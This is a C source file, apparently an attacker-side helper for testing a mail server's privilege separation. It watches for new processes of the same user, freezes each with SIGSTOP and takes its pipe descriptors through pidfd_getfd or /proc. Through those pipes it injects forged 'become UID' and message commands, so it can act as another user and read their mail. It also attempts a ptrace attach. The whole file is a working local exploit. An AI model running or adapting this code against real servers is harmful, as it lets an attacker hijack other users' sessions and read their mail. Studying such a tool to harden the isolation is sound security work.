/* SPDX-License-Identifier: ISC */
/*
 * steal UID FILE: what a hostile user does while others log in under that
 * user's name. Every process of the user that appears is stopped and robbed of
 * its pipes; where it had pop3-skel's, UID is said to be who is to be become,
 * and FILE to be a mail. Prints a line for each that was tried, with what was
 * had, until it is ended.
 */
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* A descriptor of another process: by pidfd_getfd(2), or through /proc. */
static int take(int process, pid_t pid, int number, int mode)
{
	struct stat status;
	char name[64];
	int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);

	snprintf(name, sizeof(name), "/proc/%d/fd/%d", (int)pid, number);
	if (fd < 0)
		fd = open(name, mode | O_NONBLOCK);
	if (fd >= 0 && fstat(fd, &status) == 0 && S_ISFIFO(status.st_mode) &&
	    (fcntl(fd, F_GETFL) & O_ACCMODE) == mode)
		return fd;
	close(fd);
	return -1;
}

static int same(int a, int b)
{
	struct stat one, other;

	return fstat(a, &one) == 0 && fstat(b, &other) == 0 &&
	       one.st_ino == other.st_ino;
}

static void impersonate(int in, int out, const char *uid, const char *file)
{
	struct pollfd requests = { in, POLLIN, 0 };
	char request[8192];

	dprintf(out, "become %s %s\nOK\n", uid, uid);
	if (poll(&requests, 1, 200) == 1 && (requests.revents & POLLIN) != 0 &&
	    read(in, request, sizeof(request)) > 0)
		dprintf(out, "msg - x %s\nOK\n", file);
}

/* Returns whether there was something to be had. */
static int rob(pid_t pid, const char *uid, const char *file)
{
	const int process = (int)syscall(SYS_pidfd_open, pid, 0);
	int in, out, errors, traced, got;

	kill(pid, SIGSTOP);
	in = take(process, pid, 0, O_RDONLY);
	out = take(process, pid, 1, O_WRONLY);
	errors = take(process, pid, 2, O_WRONLY);
	got = in >= 0 && out >= 0 && !same(out, errors);
	if (got)
		impersonate(in, out, uid, file);
	traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
	if (traced) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	printf("%s%s\n", got ? "pipes" : "nothing", traced ? " traced" : "");
	kill(pid, SIGCONT);
	close(in);
	close(out);
	close(errors);
	close(process);
	return got;
}

/* The number that the newest process got. */
static int newest(void)
{
	FILE *const file = fopen("/proc/loadavg", "re");
	int pid = 0;

	if (file != NULL) {
		if (fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1)
			pid = 0;
		fclose(file);
	}
	return pid;
}

int main(int argc, char **argv)
{
	static char robbed[4194305];

	if (argc != 3)
		return 64;
	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;; usleep(100)) {
		const int last = newest();

		for (int pid = last; pid > 0 && pid > last - 200; pid--) {
			if (pid == getpid() || robbed[pid] > 20 ||
			    kill(pid, 0) != 0)
				continue;
			robbed[pid] += rob(pid, argv[1], argv[2]) ? 21 : 1;
		}
	}
}
